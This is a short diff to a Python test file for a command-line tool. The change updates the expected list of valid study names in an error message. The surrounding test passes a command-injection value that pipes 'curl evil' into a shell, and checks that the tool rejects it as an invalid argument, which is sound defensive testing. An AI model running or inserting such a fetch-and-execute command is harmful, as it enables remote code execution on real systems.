@@ -80,7 +80,7 @@ def test_empty_list_is_rejected():
 def test_injection_attempt_is_just_an_invalid_value():
     result = run("--studies", 'oltp"; curl evil | sh; echo "', "--systems", "sqlite", "--profile", "ci")
     assert result.returncode == 2
-    assert "valid values are oltp, analytical, mcp-db" in result.stderr
+    assert "valid values are analytical, mcp-db, mcp-servers, oltp, payments" in result.stderr
 
 
 def test_region_alone_can_be_checked():
